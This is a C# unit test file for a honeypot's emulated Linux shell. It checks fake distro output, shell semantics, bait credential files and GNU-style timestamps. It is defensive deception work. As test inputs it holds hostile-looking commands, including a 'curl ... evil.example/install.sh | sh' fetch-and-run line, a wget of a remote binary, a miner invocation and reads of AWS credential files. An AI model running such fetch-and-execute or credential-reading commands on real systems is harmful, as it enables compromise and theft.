using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using Decnet.Core.Honeypots.Shell;
using Microsoft.Extensions.Time.Testing;

namespace Decnet.Tests.Honeypots.Shell;

public sealed class CommandInterpreterTests
{
    private readonly List<(string Type, Dictionary<string, string?> Fields)> _events = [];

    private CommandInterpreter NewShell(string distro = "debian", string user = "root", long overlayBytes = 4 * 1024 * 1024)
    {
        var now = new DateTimeOffset(2026, 11, 29, 12, 0, 0, TimeSpan.Zero);
        var persona = PersonaFileSystem.Build("web-07", distro, ["root", "deploy"], now);
        return new CommandInterpreter(new ShellContext
        {
            Hostname = "web-07",
            User = user,
            Distro = PersonaFileSystem.Distro(distro),
            FileSystem = new ShellFileSystem(persona, TimeProvider.System, overlayBytes),
            RemoteIp = "198.51.100.7",
            Emit = (type, fields) => _events.Add((type, fields.ToDictionary(f => f.Key, f => f.Value))),
        });
    }

    [Fact]
    public void Prompt_shows_user_host_and_cwd_with_home_as_tilde()
    {
        var shell = NewShell();
        Assert.Equal("root@web-07:~# ", shell.Prompt);
        shell.Execute("cd /var/www");
        Assert.Equal("root@web-07:/var/www# ", shell.Prompt);
        Assert.Equal("deploy@web-07:~$ ", NewShell(user: "deploy").Prompt);
    }

    [Theory]
    [InlineData("debian", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"")]
    [InlineData("ubuntu22", "VERSION=\"22.04.4 LTS (Jammy Jellyfish)\"")]
    [InlineData("ubuntu20", "VERSION_CODENAME=focal")]
    [InlineData("rocky9", "PRETTY_NAME=\"Rocky Linux 9.4 (Blue Onyx)\"")]
    [InlineData("centos7", "PRETTY_NAME=\"CentOS Linux 7 (Core)\"")]
    [InlineData("alpine", "ID=alpine")]
    [InlineData("fedora", "ID=fedora")]
    [InlineData("kali", "ID=kali")]
    [InlineData("arch", "ID=arch")]
    public void Os_release_matches_the_decky_distro(string distro, string expected)
    {
        var result = NewShell(distro).Execute("cat /etc/os-release");
        Assert.Contains(expected, result.Output);
        Assert.Equal(0, result.ExitCode);
    }

    [Fact]
    public void Unknown_command_says_command_not_found_with_status_127()
    {
        var result = NewShell().Execute("xmrig --donate-level 1");
        Assert.Equal("bash: xmrig: command not found\n", result.Output);
        Assert.Equal(127, result.ExitCode);
    }

    [Fact]
    public void Every_command_line_is_an_event_with_cwd_and_user()
    {
        var shell = NewShell();
        shell.Execute("cd /tmp");
        shell.Execute("ls -la");
        Assert.Equal(["cd /tmp", "ls -la"], _events.Where(e => e.Type == "command").Select(e => e.Fields["cmd"]));
        Assert.Equal("/tmp", _events[1].Fields["cwd"]);
        Assert.Equal("root", _events[1].Fields["user"]);
    }

    [Fact]
    public void Redirection_writes_to_the_overlay_and_append_appends()
    {
        var shell = NewShell();
        shell.Execute("echo one > /tmp/a.txt");
        shell.Execute("echo two >> /tmp/a.txt");
        Assert.Equal("one\ntwo\n", shell.Execute("cat /tmp/a.txt").Output);
        Assert.Equal("2\n", shell.Execute("wc -l /tmp/a.txt").Output);
        Assert.Contains("No such file or directory", shell.Execute("echo x > /nope/file").Output);
    }

    [Fact]
    public void Lists_and_pipes_follow_shell_semantics()
    {
        var shell = NewShell();
        Assert.Equal("a\nb\n", shell.Execute("echo a; echo b").Output);
        Assert.Equal("yes\n", shell.Execute("false && echo no || echo yes").Output);
        Assert.Equal("root:x:0:0:root:/root:/bin/bash\n", shell.Execute("cat /etc/passwd | grep root | head -n 1").Output);
        Assert.Equal("1\n", shell.Execute("cat /etc/passwd | grep -c www-data").Output);
        Assert.Equal("bash: nope: command not found\nafter\n", shell.Execute("nope; echo after").Output);
        Assert.Equal("127\n", shell.Execute("nope 2>/dev/null; echo $?").Output);
        Assert.Equal("hello world\n", shell.Execute("X='hello world'; echo \"$X\"").Output);
    }

    [Fact]
    public void Filesystem_commands_change_only_the_session_overlay()
    {
        var shell = NewShell();
        shell.Execute("mkdir -p /tmp/.x && cd /tmp/.x && touch run.sh && chmod +x run.sh");
        Assert.Equal("/tmp/.x\n", shell.Execute("pwd").Output);
        Assert.Contains("run.sh", shell.Execute("ls -la").Output);
        shell.Execute("cp /etc/hostname h && mv h h2");
        Assert.Equal("web-07\n", shell.Execute("cat h2").Output);
        shell.Execute("rm -rf /tmp/.x");
        Assert.Contains("No such file or directory", shell.Execute("ls /tmp/.x").Output);
        Assert.Contains("bash: cd: /nowhere: No such file or directory", shell.Execute("cd /nowhere").Output);
        Assert.Contains("hostname", NewShell().Execute("ls /etc").Output);
    }

    [Fact]
    public void Bait_files_are_present_and_consistent_per_hostname()
    {
        var first = NewShell().Execute("cat /root/.aws/credentials").Output;
        var second = NewShell().Execute("cat ~/.aws/credentials").Output;
        Assert.Matches("aws_access_key_id = AKIA[A-Z2-7]{16}", first);
        Assert.Equal(first, second);
        Assert.Contains("DB_PASSWORD=", NewShell().Execute("cat /var/www/.env").Output);
        Assert.Contains("DB_PASSWORD=", NewShell().Execute("cat /root/.env").Output);
        Assert.Contains("aws s3", NewShell().Execute("cat .bash_history").Output);
    }

    [Fact]
    public void System_commands_answer_like_a_linux_host()
    {
        var shell = NewShell();
        Assert.StartsWith("Linux web-07 6.1.0-21-amd64 #1 SMP", shell.Execute("uname -a").Output);
        Assert.Equal("Linux\n", shell.Execute("uname").Output);
        Assert.Equal("uid=0(root) gid=0(root) groups=0(root)\n", shell.Execute("id").Output);
        Assert.Equal("root\n", shell.Execute("whoami").Output);
        Assert.Equal("web-07\n", shell.Execute("hostname").Output);
        Assert.Contains("198.51.100.7", shell.Execute("w").Output);
        Assert.Contains("/usr/sbin/sshd", shell.Execute("ps aux").Output);
        Assert.Contains("Mem:", shell.Execute("free -h").Output);
        Assert.Contains("/dev/sda1", shell.Execute("df -h").Output);
        Assert.Contains("inet 10.0.1.15", shell.Execute("ifconfig").Output);
        Assert.Contains("eth0", shell.Execute("ip a").Output);
        Assert.Matches("^[0-9]+\n$", shell.Execute("nproc").Output);
        Assert.Contains("Model name", shell.Execute("lscpu").Output);
        Assert.Contains("load average", shell.Execute("uptime").Output);
        Assert.Equal("/usr/bin/wget\n", shell.Execute("which wget").Output);
        Assert.Equal("uid=0(root) gid=0(root) groups=0(root)\n", shell.Execute("sudo -n id").Output);
        Assert.Contains("    1  uname -a", shell.Execute("history").Output);
        Assert.Equal("bar\n", shell.Execute("export FOO=bar && echo $FOO").Output);
    }

    [Fact]
    public void History_keeps_the_latest_commands_within_a_bound_the_attacker_cannot_stretch()
    {
        var shell = NewShell();
        for (var i = 0; i < 600; i++)
        {
            shell.Execute($"echo {i}");
        }
        Assert.Equal(500, shell.History.Count);
        Assert.Equal("echo 599", shell.History[^1]);

        // Long lines: the history holds characters, not only lines, within its bound.
        for (var i = 0; i < 500; i++)
        {
            shell.Execute($"echo {i} " + new string('x', 4000));
        }
        Assert.InRange(shell.History.Sum(h => h.Length), 4000, 16 * 1024);
        Assert.StartsWith("echo 499 ", shell.History[^1], StringComparison.Ordinal);
    }

    [Fact]
    public void Wget_and_curl_report_the_url_and_fetch_nothing()
    {
        var shell = NewShell();
        var wget = shell.Execute("cd /tmp && wget http://198.51.100.20/bins/x86 -O x86");
        var curl = shell.Execute("curl -fsSL https://evil.example/install.sh | sh");
        Assert.Equal(4, wget.ExitCode);
        Assert.Contains("unable to resolve host address '198.51.100.20'", wget.Output);
        Assert.Contains("Could not resolve host: evil.example", curl.Output);
        var downloads = _events.Where(e => e.Type == "download_attempt").ToList();
        Assert.Equal(["http://198.51.100.20/bins/x86", "https://evil.example/install.sh"], downloads.Select(d => d.Fields["url"]));
        Assert.Equal(["wget", "curl"], downloads.Select(d => d.Fields["tool"]));
        Assert.Contains("No such file", shell.Execute("cat /tmp/x86").Output);
    }

    [Fact]
    public void Exit_and_logout_end_the_shell()
    {
        Assert.True(NewShell().Execute("exit").Exit);
        Assert.True(NewShell().Execute("logout").Exit);
        var status = NewShell().Execute("exit 3");
        Assert.Equal((true, 3), (status.Exit, status.ExitCode));
    }

    [Fact]
    public void Overlay_is_bounded()
    {
        var shell = NewShell(overlayBytes: 1000);
        shell.Execute("echo " + new string('a', 600) + " > /tmp/a");
        var second = shell.Execute("echo " + new string('b', 600) + " > /tmp/b");
        Assert.Contains("No such file or directory", second.Output);
        Assert.Contains("No such file", shell.Execute("cat /tmp/b").Output);
    }

    [Fact]
    public async Task Terminal_echoes_edits_and_runs_lines_with_crlf_output()
    {
        var output = new StringBuilder();
        var terminal = new InteractiveTerminal(NewShell(), (text, _) => { output.Append(text); return Task.CompletedTask; }, 64);
        await terminal.StartAsync("banner\n", TestContext.Current.CancellationToken);
        Assert.Equal("banner\r\nroot@web-07:~# ", output.ToString());
        output.Clear();

        Assert.True(await terminal.FeedAsync("whoamx\x7fi\r"u8.ToArray(), TestContext.Current.CancellationToken));
        Assert.Equal("whoamx\b \bi\r\nroot\r\nroot@web-07:~# ", output.ToString());
        output.Clear();

        Assert.True(await terminal.FeedAsync("sleep 100\x03"u8.ToArray(), TestContext.Current.CancellationToken));
        Assert.EndsWith("^C\r\nroot@web-07:~# ", output.ToString());
        output.Clear();

        // Up arrow recalls the previous line.
        Assert.True(await terminal.FeedAsync("\x1b[A\r"u8.ToArray(), TestContext.Current.CancellationToken));
        Assert.Contains("whoami\r\nroot\r\n", output.ToString());

        Assert.True(await terminal.FeedAsync(Encoding.UTF8.GetBytes(new string('z', 200) + "\r"), TestContext.Current.CancellationToken));
        Assert.Contains("bash: " + new string('z', 64) + ": command not found", output.ToString());

        Assert.False(await terminal.FeedAsync("\x04"u8.ToArray(), TestContext.Current.CancellationToken));
    }

    private CommandInterpreter ShellAt(DateTimeOffset now)
    {
        var clock = new FakeTimeProvider(now);
        return new CommandInterpreter(new ShellContext
        {
            Hostname = "web-07",
            User = "root",
            Distro = PersonaFileSystem.Distro("debian"),
            FileSystem = new ShellFileSystem(PersonaFileSystem.Build("web-07", "debian", ["root", "deploy"], now), clock),
            Time = clock,
            RemoteIp = "198.51.100.7",
            Emit = (_, _) => { },
        });
    }

    [Theory]
    [InlineData(2027, 3, 10)]
    [InlineData(2034, 11, 2)]
    public void File_dates_uptime_and_process_starts_follow_the_current_date(int year, int month, int day)
    {
        var now = new DateTimeOffset(year, month, day, 9, 30, 0, TimeSpan.Zero);
        var shell = ShellAt(now);
        var listing = shell.Execute("ls -la /").Output + shell.Execute("ls -la /root").Output + shell.Execute("ls -l /etc").Output;

        // GNU ls: "Mar  7 14:02" for the last six months, "Mar  7  2025" (the year) for anything older.
        var dates = Regex.Matches(listing, @" (?<mon>[A-Z][a-z]{2}) (?<day>[ \d]\d) (?:(?<hm>\d\d:\d\d)|\s(?<year>\d{4})) ");
        Assert.True(dates.Count > 40, listing);
        var recent = 0;
        foreach (Match date in dates)
        {
            var monthDay = DateTime.ParseExact($"{date.Groups["mon"].Value} {date.Groups["day"].Value.Trim()}", "MMM d", CultureInfo.InvariantCulture);
            if (date.Groups["hm"].Success)
            {
                recent++;
                var at = new DateTimeOffset(now.Year, monthDay.Month, monthDay.Day, 0, 0, 0, TimeSpan.Zero);
                at = at > now ? at.AddYears(-1) : at;
                Assert.InRange(now - at, TimeSpan.Zero, PersonaClock.RecentFile);
            }
            else
            {
                var shownYear = int.Parse(date.Groups["year"].Value, CultureInfo.InvariantCulture);
                Assert.InRange(shownYear, now.Year - 3, now.Year);
                Assert.True(now - new DateTimeOffset(shownYear, monthDay.Month, monthDay.Day, 23, 59, 59, TimeSpan.Zero) > PersonaClock.RecentFile - TimeSpan.FromDays(1), date.Value);
            }
        }
        // Root's files were used lately; the system was installed long ago.
        Assert.InRange(recent, 5, dates.Count - 5);

        var boot = PersonaClock.BootTime("web-07", now);
        var up = now - boot;
        Assert.InRange(up, PersonaClock.MinimumUptime, PersonaClock.RebootCycle + PersonaClock.MinimumUptime);
        Assert.Contains($"up {(int)up.TotalDays} days", shell.Execute("uptime").Output, StringComparison.Ordinal);
        var init = shell.Execute("ps aux").Output.Split('\n').Single(l => l.EndsWith("/sbin/init", StringComparison.Ordinal));
        Assert.Contains(" " + PersonaClock.PsStart(boot.AddSeconds(2), now) + " ", init, StringComparison.Ordinal);
        Assert.DoesNotContain("Nov07", shell.Execute("ps aux").Output, StringComparison.Ordinal);
        var procUptime = double.Parse(shell.Execute("cat /proc/uptime").Output.Split(' ')[0], CultureInfo.InvariantCulture);
        Assert.Equal(up.TotalSeconds, procUptime, 1);
    }

    [Theory]
    [InlineData("2027-03-10T09:30:00Z", "2027-03-07T14:02:00Z", "Mar  7 14:02")]
    [InlineData("2027-03-10T09:30:00Z", "2026-08-01T10:00:00Z", "Aug  1  2026")]
    [InlineData("2027-03-10T09:30:00Z", "2027-03-11T10:00:00Z", "Mar 11  2027")]
    public void Ls_prints_times_like_gnu_ls(string now, string modified, string expected) =>
        Assert.Equal(expected, PersonaClock.LsTime(DateTimeOffset.Parse(modified, CultureInfo.InvariantCulture), DateTimeOffset.Parse(now, CultureInfo.InvariantCulture)));
}
